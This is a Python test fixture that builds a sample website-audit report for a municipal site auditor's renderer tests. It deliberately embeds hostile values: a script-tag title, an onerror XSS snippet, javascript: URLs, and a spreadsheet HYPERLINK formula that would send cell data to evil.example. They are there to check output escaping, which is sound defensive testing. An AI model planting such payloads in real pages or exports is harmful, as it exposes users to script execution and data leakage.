"""A realistic, hand-built ``SiteReport`` with hostile content, for the renderer tests.

The hostile bits are the ones a real crawl can bring home: a page title with a script tag, an
axe snippet with an ``onerror`` handler, a cell that Excel would run as a formula, a
``javascript:`` URL, a control character, and accented Dutch text that must survive every
encoding step.
"""

from __future__ import annotations

from datetime import date, datetime, timedelta, timezone

from auditor.model import (
    Audience,
    BrokenLink,
    CheckContribution,
    CheckGuidance,
    CheckInfo,
    CheckResult,
    Coverage,
    CriterionScore,
    RunChanges,
    ScorePoint,
    Explanation,
    ManualAnswer,
    Evidence,
    Finding,
    LinkRecord,
    Method,
    Outcome,
    PageStatus,
    PageSummary,
    PrincipleScore,
    ResourceRecord,
    Severity,
    Site,
    SiteKind,
    SiteReport,
    SkippedUrl,
    SkipReason,
)

BASE = "https://www.zélzate-noord.example"
SCRIPT_TITLE = "<script>alert(1)</script>"
IMG_SNIPPET = '<img src=x onerror="alert(document.domain)">'
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'
JS_URL = "javascript:alert('xss')"
ORGANISATION = "Gemeente Zélzate-Noord — Dienst Burgerzaken & Welzijn"

PRINCIPLES = [
    ("standaard_digitaal", "Standaard digitaal"),
    ("gebruiker_centraal", "Gebruiker centraal"),
    ("digitaal_herdacht", "Digitaal herdacht"),
    ("datagedreven", "Datagedreven"),
    ("betrouwbaar", "Betrouwbaar"),
]

CHECKS = [
    CheckInfo(id="axe-violations", title="Toegankelijkheid volgens axe-core (WCAG 2.1 AA)",
              failure_title="Automatisch gevonden toegankelijkheidsproblemen",
              description="Voert axe-core uit op elke pagina.", scope="page", family="a11y",
              requires=["axe"]),
    CheckInfo(id="a11y.statement", title="Toegankelijkheidsverklaring aanwezig",
              failure_title="Geen toegankelijkheidsverklaring gevonden",
              description="Zoekt een link naar de toegankelijkheidsverklaring.", scope="site",
              family="a11y", requires=["links"]),
    CheckInfo(id="a11y.lang", title="Taal van de pagina opgegeven", failure_title="Taal ontbreekt",
              description="Controleert het lang-attribuut.", scope="page", family="a11y",
              requires=["lang"]),
    CheckInfo(id="mobile.viewport", title="Viewport voor mobiel ingesteld",
              failure_title="Geen viewport", description="meta viewport", scope="page",
              family="mobile"),
    CheckInfo(id="eloket.links", title="Link naar een e-loket",
              failure_title="Geen e-loket gevonden", description="Mijn Burgerprofiel e.d.",
              scope="site", family="eloket"),
    CheckInfo(id="data.structured", title="Gestructureerde gegevens (JSON-LD)",
              failure_title="Geen gestructureerde gegevens", description="schema.org/OSLO",
              scope="page", family="data"),
    CheckInfo(id="security.https", title="HTTPS en doorverwijzing van HTTP",
              failure_title="Geen veilige verbinding", description="TLS en HSTS", scope="site",
              family="security"),
    CheckInfo(id="security.headers", title="Beveiligingsheaders",
              failure_title="Beveiligingsheaders ontbreken", description="CSP, X-Frame-Options",
              scope="page", family="security",
              guidance=CheckGuidance(nl="Stel de headers in op de server <b>nu</b>.", en="Set the headers on the server.",
                                     url=JS_URL)),
    CheckInfo(id="privacy.trackers", title="Geen trackers vóór toestemming",
              failure_title="Trackers vóór toestemming", description="Derde partijen",
              scope="page", family="privacy"),
    CheckInfo(id="links.broken", title="Gebroken links", failure_title="Gebroken links gevonden",
              description="Links die een fout geven.", scope="site", family="links",
              guidance=CheckGuidance(nl="Herstel of verwijder de links.", en="Repair or remove the links.",
                                     url="https://overheid.vlaanderen.be/webrichtlijnen")),
]


def _criteria() -> list[CriterionScore]:
    c = CriterionScore
    return [
        c(criterion_id="SD-1", principle_id="standaard_digitaal", title="Online aanvragen mogelijk",
          kind="user", automation="partly_automated", score=1.0, outcome=Outcome.PASS,
          checks=[CheckContribution(check_id="eloket.links", weight=1.0, outcome=Outcome.PASS,
                                    score=1.0)],
          question="Kan elke dienst ook volledig online aangevraagd worden?", coverage=1.0),
        c(criterion_id="SD-2", principle_id="standaard_digitaal",
          title="Niet-digitaal alternatief beschikbaar", kind="inclusion", automation="manual",
          outcome=Outcome.MANUAL,
          question="Staat bij elke dienst hoe je die ook aan het loket of per telefoon krijgt?"),
        c(criterion_id="GC-1", principle_id="gebruiker_centraal",
          title="Toegankelijk volgens WCAG 2.1 AA", kind="user", automation="partly_automated",
          score=0.55, outcome=Outcome.FAIL,
          checks=[CheckContribution(check_id="axe-violations", weight=3.0, outcome=Outcome.FAIL,
                                    score=0.4),
                  CheckContribution(check_id="a11y.statement", weight=1.0, outcome=Outcome.PASS,
                                    score=1.0)],
          question="Is de site met toetsenbord en schermlezer bruikbaar?", coverage=1.0),
        c(criterion_id="GC-2", principle_id="gebruiker_centraal", title="Taal van de pagina",
          kind="inclusion", automation="automated", score=1.0, outcome=Outcome.PASS,
          checks=[CheckContribution(check_id="a11y.lang", weight=1.0, outcome=Outcome.PASS,
                                    score=1.0)], coverage=1.0),
        c(criterion_id="DH-1", principle_id="digitaal_herdacht", title="Mobiel bruikbaar",
          kind="user", automation="automated", score=0.7, outcome=Outcome.EXPLAINED,
          measured_outcome=Outcome.WARNING,
          explanation=Explanation(criterion_id="DH-1", reason="Nieuwe mobiele site <b>gepland</b>",
                                  by="Dienst ICT", date=date(2026, 10, 1), expires=date(2027, 6, 30),
                                  link="javascript:alert(1)"),
          checks=[CheckContribution(check_id="mobile.viewport", weight=1.5,
                                    outcome=Outcome.PASS, score=1.0),
                  CheckContribution(check_id="axe-violations", weight=1.0, outcome=Outcome.FAIL,
                                    score=0.4)], coverage=1.0),
        c(criterion_id="DG-1", principle_id="datagedreven", title="Gestructureerde gegevens",
          kind="user", automation="automated", outcome=Outcome.NOT_APPLICABLE,
          checks=[CheckContribution(check_id="data.structured", weight=1.0,
                                    outcome=Outcome.NOT_APPLICABLE)]),
        c(criterion_id="DG-2", principle_id="datagedreven", title="Transparant over gegevensgebruik",
          kind="inclusion", automation="manual", outcome=Outcome.MANUAL,
          answer=ManualAnswer(criterion_id="DG-2", answer="partly", evidence="https://voorbeeld.be/bewijs",
                              date=date(2026, 11, 1)),
          question="Legt de site uit welke gegevens uit authentieke bronnen gebruikt worden?"),
        c(criterion_id="BT-1", principle_id="betrouwbaar", title="Veilige verbinding",
          kind="user", automation="automated", score=0.83, outcome=Outcome.WARNING,
          checks=[CheckContribution(check_id="security.https", weight=2.0, outcome=Outcome.PASS,
                                    score=1.0),
                  CheckContribution(check_id="security.headers", weight=1.0,
                                    outcome=Outcome.WARNING, score=0.5)], coverage=1.0),
        c(criterion_id="BT-2", principle_id="betrouwbaar", title="Privacy gerespecteerd",
          kind="user", automation="partly_automated", outcome=Outcome.ERROR,
          checks=[CheckContribution(check_id="privacy.trackers", weight=1.0,
                                    outcome=Outcome.ERROR)],
          question="Vermeldt de privacyverklaring de verwerkingsverantwoordelijke en de DPO?"),
    ]


def _results() -> list[CheckResult]:
    img_alt = Finding(
        check_id="axe-violations", outcome=Outcome.FAIL, severity=Severity.CRITICAL, rule="image-alt",
        # axe-core's English help and description, as the accessibility check stores them
        title="Images must have alternative text",
        description="Ensure <img> elements have alternative text or a role of none or presentation",
        help_url="https://dequeuniversity.com/rules/axe/4.10/image-alt?application=axeAPI",
        wcag_sc=["1.1.1"], fingerprint="axe-violations:image-alt:main>img.logo", occurrences=12,
        pages=[f"{BASE}/", f"{BASE}/nieuws", f"{BASE}/afval-en-milieu"], pages_total=5,
        evidence=[
            Evidence(page_url=f"{BASE}/", selector="main > img.logo", snippet=IMG_SNIPPET),
            Evidence(page_url=JS_URL, selector="#hero img", snippet="<img src=\"hero.jpg\">"),
        ],
    )
    contrast = Finding(
        check_id="axe-violations", outcome=Outcome.FAIL, severity=Severity.SERIOUS, rule="color-contrast",
        title="Elements must meet minimum color contrast ratio thresholds", help_url=JS_URL,
        wcag_sc=["1.4.3"], fingerprint="axe-violations:color-contrast:.footer a", occurrences=40,
        pages=[f"{BASE}/contact"], pages_total=1,
        evidence=[Evidence(page_url=f"{BASE}/contact", selector=".footer a",
                           snippet='<a href="/privacy">Privacyverklaring – lees méér</a>',
                           value="kleurcontrast 2.9:1", expected="minstens 4.5:1")],
    )
    headers = Finding(
        check_id="security.headers", outcome=Outcome.WARNING, severity=Severity.MINOR,
        rule="content-security-policy", title="Content-Security-Policy ontbreekt",
        fingerprint="security.headers:csp", occurrences=1, pages=[f"{BASE}/"], pages_total=6,
        evidence=[Evidence(page_url=f"{BASE}/", selector=FORMULA, value="-1+2 \x07bel",
                           expected="@een beleid")],
    )
    broken = Finding(
        check_id="links.broken", outcome=Outcome.FAIL, severity=Severity.MODERATE,
        rule="http-404", title="Link naar een pagina die niet bestaat",
        fingerprint="links.broken:/oud-reglement", occurrences=2,
        pages=[f"{BASE}/reglementen"], pages_total=1,
        evidence=[Evidence(page_url=f"{BASE}/reglementen", selector="a[href='/oud-reglement']",
                           value="HTTP 404", expected="HTTP 200")],
    )
    return [
        CheckResult(check_id="axe-violations", outcome=Outcome.FAIL, score=0.4,
                    summary="2 regels geschonden op 5 van 6 pagina's",
                    findings=[img_alt, contrast], pages_evaluated=6, pages_passed=1),
        CheckResult(check_id="a11y.statement", outcome=Outcome.PASS, score=1.0,
                    summary="Toegankelijkheidsverklaring gevonden in de footer"),
        CheckResult(check_id="a11y.lang", outcome=Outcome.PASS, score=1.0, summary="lang=\"nl\""),
        CheckResult(check_id="mobile.viewport", outcome=Outcome.PASS, score=1.0),
        CheckResult(check_id="eloket.links", outcome=Outcome.PASS, score=1.0,
                    summary="Link naar Mijn Burgerprofiel"),
        CheckResult(check_id="data.structured", outcome=Outcome.NOT_APPLICABLE),
        CheckResult(check_id="security.https", outcome=Outcome.PASS, score=1.0),
        CheckResult(check_id="security.headers", outcome=Outcome.WARNING, score=0.5,
                    summary="CSP ontbreekt", findings=[headers]),
        CheckResult(check_id="privacy.trackers", outcome=Outcome.ERROR,
                    summary="De controle liep vast: KeyError 'requests'"),
        CheckResult(check_id="links.broken", outcome=Outcome.FAIL, score=0.0,
                    summary="1 gebroken link", findings=[broken]),
        # what checks/wcag_coverage.py reports, so the WCAG-per-principle section is rendered
        CheckResult(check_id="wcag-coverage", outcome=Outcome.MANUAL, summary="WCAG-dekking", details={
            "wcag_version": "2.1", "principles": {
                "perceivable": {"number": "1", "automated": ["1.1.1", "1.4.3"], "manual": ["1.2.3"]},
                "operable": {"number": "2", "automated": ["2.4.7"], "manual": ["2.1.2"]},
                "understandable": {"number": "3", "automated": ["3.1.1"], "manual": ["3.3.1"]},
                "robust": {"number": "4", "automated": ["4.1.2"], "manual": ["4.1.3"]}}}),
    ]


def sample_report() -> SiteReport:
    started = datetime(2025, 3, 14, 9, 30, 5, tzinfo=timezone.utc)
    pages = [
        PageSummary(url=f"{BASE}/", final_url=f"{BASE}/", http_status=200,
                    title="Welkom in Zélzate-Noord", lang="nl", depth=0,
                    footer_links=[LinkRecord(url=JS_URL, text="klik")]),
        PageSummary(url=f"{BASE}/nieuws", http_status=200, title=SCRIPT_TITLE, lang="nl",
                    depth=1, found_on=f"{BASE}/"),
        PageSummary(url=f"{BASE}/afval-en-milieu", http_status=200,
                    title="Afval & milieu – ophaalkalender", depth=1, found_on=f"{BASE}/"),
        PageSummary(url=f"{BASE}/contact", http_status=200, title="Contact", roles=["contact"],
                    depth=1, found_on=f"{BASE}/"),
        PageSummary(url=f"{BASE}/privacy", status=PageStatus.BLOCKED, http_status=403,
                    error="403 Forbidden (WAF challenge)", roles=["privacy"], depth=1),
        PageSummary(url=f"{BASE}/reglementen", status=PageStatus.TIMEOUT,
                    error="Navigation timeout of 30000 ms exceeded", depth=2),
        PageSummary(url=JS_URL, status=PageStatus.ERROR, error=FORMULA, depth=2),
    ]
    skipped = [SkippedUrl(url=JS_URL, reason=SkipReason.UNSUPPORTED_SCHEME, found_on=f"{BASE}/")]
    skipped += [
        SkippedUrl(url=f"{BASE}/nieuws?page={i}", reason=SkipReason.PAGE_BUDGET,
                   found_on=f"{BASE}/nieuws")
        for i in range(2, 252)
    ]
    skipped.append(SkippedUrl(url=f"{BASE}/admin", reason=SkipReason.ROBOTS_DISALLOWED,
                              found_on="sitemap"))
    return SiteReport(
        run_id="20250314T093005Z-zelzate",
        site=Site(start_urls=[f"{BASE}/"], organisation=ORGANISATION,
                  kind=SiteKind.MUNICIPALITY, audiences=[Audience.CITIZENS],
                  contact="webmaster@zélzate-noord.example", defaulted=["audiences", "contact"]),
        started_at=started,
        finished_at=started + timedelta(minutes=4, seconds=12),
        method=Method(tool_version="0.1.0", framework_id="dienstverleningsstrategie",
                      framework_version="2022.1-proxy", axe_version="4.10.2",
                      browser="chromium", browser_version="131.0.6778.85",
                      user_agent="auditor/0.1.0 (+https://example.org/auditor)",
                      settings={"max_pages": 50, "max_depth": 5, "delay_s": 0.5,
                                "obey_robots": True, "include": [], "exclude": ["/admin"]}),
        coverage=Coverage(pages_discovered=259, pages_visited=7, pages_ok=4, pages_failed=2,
                          pages_blocked=1, pages_skipped=252, resources=2),
        overall_score=0.742,
        principles=[
            PrincipleScore(principle_id="standaard_digitaal", name="Standaard digitaal",
                           score=1.0, criteria_total=2, criteria_scored=1, criteria_manual=1, coverage=0.5),
            PrincipleScore(principle_id="gebruiker_centraal", name="Gebruiker centraal",
                           score=0.663, criteria_total=2, criteria_scored=2, coverage=1.0),
            PrincipleScore(principle_id="digitaal_herdacht", name="Digitaal herdacht",
                           score=0.7, criteria_total=1, criteria_scored=1, coverage=1.0),
            PrincipleScore(principle_id="datagedreven", name="Datagedreven", score=None,
                           criteria_total=2, criteria_scored=0, criteria_manual=1),
            PrincipleScore(principle_id="betrouwbaar", name="Betrouwbaar", score=0.83,
                           criteria_total=2, criteria_scored=1, coverage=0.75),
        ],
        criteria=_criteria(),
        checks=CHECKS,
        results=_results(),
        pages=pages,
        resources=[
            ResourceRecord(url=f"{BASE}/docs/Reglement%20gemeentebelasting%202025.pdf",
                           content_type="application/pdf", size=1_482_113, http_status=200,
                           linked_from=f"{BASE}/reglementen"),
            ResourceRecord(url=JS_URL, content_type="application/vnd.ms-excel", size=None,
                           linked_from=f"{BASE}/"),
        ],
        skipped=skipped,
        broken_links=[
            BrokenLink(url=f"{BASE}/oud-reglement", http_status=404,
                       linked_from=[f"{BASE}/reglementen", JS_URL]),
            BrokenLink(url="https://partner.example/dienst", error="dns_resolution_error",
                       linked_from=[f"{BASE}/"]),
        ],
        partial=False,
        notes=["De privacyverklaring kon niet bezocht worden (403).", SCRIPT_TITLE],
        changes=RunChanges(
            previous_run_id="vorige01", previous_score=0.61, new=1, fixed=2, persisting=3,
            new_titles=[SCRIPT_TITLE], fixed_titles=["Afbeeldingen hebben een tekstalternatief"],
            method_differences=["axe-core: 4.11.0 → 4.12.1"],
            trend=[ScorePoint(run_id="vorige01", started_at=datetime(2026, 10, 1, tzinfo=timezone.utc), score=0.61),
                   ScorePoint(run_id="r", started_at=datetime(2026, 11, 1, tzinfo=timezone.utc), score=0.7)],
        ),
    )


def not_assessable_report() -> SiteReport:
    """A site that refused us: nothing scored, banner expected."""
    started = datetime(2025, 3, 14, 10, 0, tzinfo=timezone.utc)
    return SiteReport(
        run_id="20250314T100000Z-blocked",
        site=Site(start_urls=["https://geblokkeerd.example/"],
                  defaulted=["organisation", "kind", "audiences", "contact"]),
        started_at=started,
        finished_at=None,
        partial=True,
        assessable=False,
        not_assessable_reason="De startpagina gaf 403 Forbidden (WAF-uitdaging).",
        method=Method(tool_version="0.1.0"),
        coverage=Coverage(pages_discovered=1, pages_visited=1, pages_blocked=1),
        principles=[PrincipleScore(principle_id=p, name=n, criteria_total=1)
                    for p, n in PRINCIPLES],
        pages=[PageSummary(url="https://geblokkeerd.example/", status=PageStatus.BLOCKED,
                           http_status=403, error="403 Forbidden")],
    )
